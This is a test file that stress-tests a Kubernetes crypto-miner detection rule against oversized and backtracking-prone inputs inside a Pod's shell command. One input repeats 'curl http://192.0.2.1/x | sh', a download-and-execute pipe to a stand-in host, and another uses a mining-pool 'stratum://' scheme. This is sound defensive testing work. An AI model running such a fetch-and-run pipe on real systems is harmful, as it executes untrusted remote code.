// run-tests: alone
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import cryptoMinerWorkload from '../../src/rules/threat/crypto-miner-workload.rule.js';
import { runCase } from '../../src/testing/rule-tester.js';

/** Inputs shaped to make regexes backtrack or decoders balloon; each must finish quickly and not throw. */
const HOSTILE: Readonly<Record<string, string>> = {
  'scheme with a body of punctuation': `stratum://${'!'.repeat(200_000)}${' stratum://!!!'.repeat(10_000)}`,
  'long dotted host': ` ${'a.'.repeat(100_000)}x`,
  'megabytes of base64 text': Buffer.from('echo hello world; '.repeat(200_000)).toString('base64'),
  'odd-length hex run': `${'ab'.repeat(150_000)}a`,
  'unbalanced quotes and substitutions': `${'"'.repeat(100_000)}${"'".repeat(100_000)}${'$('.repeat(50_000)}`,
  'thousands of download pipes': 'curl http://192.0.2.1/x | sh; '.repeat(5_000),
};

describe('crypto-miner-workload on hostile input', () => {
  for (const [name, text] of Object.entries(HOSTILE)) {
    it(`${name} finishes within the time budget`, () => {
      const started = performance.now();
      const pod = { apiVersion: 'v1', kind: 'Pod', metadata: { name: 'hostile' }, spec: { containers: [{ name: 'c', image: 'alpine', command: ['sh', '-c', text], args: [text] }] } };
      assert.doesNotThrow(() => runCase(cryptoMinerWorkload, { name, objects: [pod] }));
      const elapsed = performance.now() - started;
      assert.ok(elapsed < 3_000, `${name} took ${Math.round(elapsed)} ms`);
    });
  }
});
